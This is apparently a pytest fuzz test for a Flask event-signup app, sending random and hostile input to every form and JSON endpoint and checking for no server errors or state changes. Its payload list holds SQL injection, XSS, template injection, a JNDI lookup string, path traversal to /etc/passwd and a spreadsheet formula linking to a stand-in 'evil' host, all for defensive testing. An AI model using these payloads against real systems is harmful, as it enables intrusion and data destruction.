"""Random and hostile input (huge strings, control characters, wrong types, SQL and script fragments) posted to
every form and JSON endpoint: never a server error, and nothing changes when the input is refused.

POST rules come from app.url_map, so forms added later are covered. ``FUZZ_EXAMPLES`` (default 5) sets the
number of hypothesis examples per endpoint, role and encoding.
"""

from __future__ import annotations

import os

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from .. import factories
from .world import build_world, fill, fingerprint, rules

EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "5"))
SKIP = {"accounts.logout", "web.switch_language"}

FIELD_NAMES = [
    "phone",
    "password",
    "password_confirm",
    "current_password",
    "new_password",
    "new_password_confirm",
    "name",
    "email",
    "gender",
    "birth_date",
    "city",
    "employer",
    "enterprise_type",
    "industry",
    "frontline",
    "member_no",
    "consent",
    "agree",
    "understood",
    "event_id",
    "slot_id",
    "title",
    "description",
    "venue",
    "kind",
    "capacity",
    "starts_at",
    "ends_at",
    "signup_opens_at",
    "signup_closes_at",
    "reason",
    "code",
    "badge",
    "picks",
    "note",
    "options",
    "consents",
    "slots",
    "organization",
    "csrf_token",
    "next",
    "q",
    "page",
    "ticket_code",
    "status",
]
HOSTILE = [
    "' OR '1'='1' --",
    "'; DROP TABLE users; --",
    "1; SELECT pg_sleep(5)",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "../../etc/passwd",
    '=HYPERLINK("http://evil")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\x00",
    "\x00\x01\x02\x1b[31m",
    "\r\n\r\nX: y",
    "\u202e\u200b\ufeff",
    "𠀋𡈽𝕏" * 50,
    "A" * 100_000,
    "9" * 400,
    "-1",
    "0",
    "2147483648",
    "1e309",
    "NaN",
    "2026-02-30",
    "2026-13-01T25:61",
    "true",
    "null",
    "[]",
    "{}",
    "",
    " ",
    "female",
    "male",
    "nanchang",
]
hostile_text = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=60))
form_payloads = st.dictionaries(
    st.one_of(st.sampled_from(FIELD_NAMES), st.text(min_size=1, max_size=12)),
    st.one_of(hostile_text, st.lists(hostile_text, max_size=3)),
    max_size=10,
)
json_scalars = st.one_of(
    hostile_text, st.integers(), st.integers(min_value=2**63), st.floats(allow_nan=True), st.booleans(), st.none()
)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(st.one_of(st.sampled_from(FIELD_NAMES), st.text(max_size=8)), inner, max_size=4),
    ),
    max_leaves=12,
)
json_payloads = st.one_of(st.dictionaries(st.sampled_from(FIELD_NAMES), json_values, max_size=8), json_values)
RAW_BODIES = [b"not json", b"[]", b"null", b'{"a":', b"[" * 5000 + b"]" * 5000, b'{"phone": "\xff\xfe"}', b"\x00" * 64]

HYPOTHESIS = settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much],
)


def _refused(response, is_api: bool) -> bool:
    return response.status_code >= 400 or (not is_api and response.status_code == 200)


def _check(client, url, send, is_api):
    before = fingerprint()
    response = send()
    assert response.status_code < 500, (url, response.status_code)
    refused = _refused(response, is_api)
    if not is_api and response.status_code in (302, 303) and response.headers["Location"].startswith("/"):
        # A form that redirects may still have refused the input: the next page then shows an error message.
        refused = 'class="flash flash-error"' in client.get(response.headers["Location"]).get_data(as_text=True)
    if refused:
        assert fingerprint() == before, (url, response.status_code)
    return response


@pytest.mark.parametrize("role", ["anonymous", "employee", "organizer"])
def test_hostile_input_never_breaks_anything(app, role):
    world = build_world()
    client = app.test_client()
    headers = {}
    if role != "anonymous":
        actor = world.attacker if role == "employee" else world.organizer
        factories.login(client, actor)
        headers = {"Authorization": f"Bearer {factories.api_token(actor)}"}
    endpoints = [(rule, fill(rule, world, foreign=False)) for rule in rules(app, "POST") if rule.endpoint not in SKIP]
    endpoints = [(rule, url) for rule, url in endpoints if url is not None]
    assert len(endpoints) >= 5

    for rule, url in endpoints:
        is_api = url.startswith("/api/")
        if is_api:

            @HYPOTHESIS
            @given(payload=json_payloads)
            def run_json(payload):
                _check(client, url, lambda: client.post(url, json=payload, headers=headers), True)

            run_json()
            for body in RAW_BODIES:
                _check(
                    client,
                    url,
                    lambda body=body: client.post(
                        url, data=body, headers={**headers, "Content-Type": "application/json"}
                    ),
                    True,
                )
        else:

            @HYPOTHESIS
            @given(payload=form_payloads)
            def run_form(payload):
                _check(client, url, lambda: client.post(url, data=payload), False)

            run_form()
            _check(
                client,
                url,
                lambda: client.post(url, data=b"\xff\xfe\x00", content_type="application/x-www-form-urlencoded"),
                False,
            )


def test_nul_bytes_huge_ids_and_huge_bodies_are_clean_client_errors(app, employee_client):
    assert employee_client.get("/events/?city=%00&kind=x").status_code == 400
    assert employee_client.get("/api/v1/events?city=%00").status_code == 400
    assert employee_client.post("/account/profile", data={"name": "a\x00b"}).status_code == 400
    assert employee_client.get("/events/99999999999999999999").status_code in (400, 404)
    assert employee_client.get("/me/bookings/99999999999999999999/ticket").status_code in (400, 404)
    big = employee_client.post("/account/profile", data={"name": "x" * (17 * 1024 * 1024)})
    assert big.status_code == 413
